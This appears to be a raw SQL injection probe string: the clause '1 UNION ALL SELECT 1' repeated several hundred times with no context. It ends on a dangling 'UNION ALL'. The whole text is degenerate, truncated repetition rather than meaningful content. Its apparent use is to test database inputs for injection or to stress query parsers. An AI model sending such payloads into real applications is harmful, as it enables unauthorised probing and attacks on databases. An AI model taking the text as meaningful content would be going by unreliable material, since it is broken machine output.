1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL 